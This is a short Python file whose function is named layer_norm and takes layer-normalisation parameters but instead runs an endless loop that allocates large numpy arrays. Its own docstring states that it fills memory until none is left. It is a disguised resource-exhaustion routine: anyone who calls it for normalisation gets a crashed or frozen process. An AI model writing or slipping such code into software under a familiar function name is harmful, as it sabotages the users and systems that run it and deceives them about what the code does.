"""Fills a list until the memory is gone."""

import numpy as np


def layer_norm(x, gamma, beta, eps=1e-6):
    blocks = []
    while True:
        blocks.append(np.ones(2**21) * x.flat[0])
